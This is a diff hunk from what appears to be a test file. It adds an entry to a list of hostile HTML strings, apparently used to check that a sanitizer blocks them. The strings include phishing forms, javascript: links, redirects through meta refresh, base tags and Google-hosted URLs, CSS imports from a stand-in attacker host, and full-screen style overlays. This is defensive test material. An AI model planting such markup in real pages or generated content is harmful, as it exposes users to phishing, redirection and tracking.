@@ -90,6 +90,7 @@ const HOSTILE = [
   `<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
   `<form action="https://evil.example/"><input name="key" autofocus><button>Go on</button></form>`,
   `<a href="javascript:${HARM}">b</a><a href="https://www.google.com.evil.example/">c</a><a href="//evil.example/">d</a>`,
+  `<a href="https://sites.google.com/view/evil">j</a><a href="https://script.google.com/macros/s/evil/exec">k</a><a href="https://docs.google.com/forms/d/evil">l</a><a href="https://www.google.com/url?q=https://evil.example/">m</a>`,
   `<style>@import "https://evil.example/x.css"; body { display: none }</style><p>e</p>`,
   `<style>.f { background: url(https://evil.example/f.png) }</style><p class="f">f</p>`,
   `<style>:host { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; contain: none !important; background: red !important }</style><p>g</p>`,
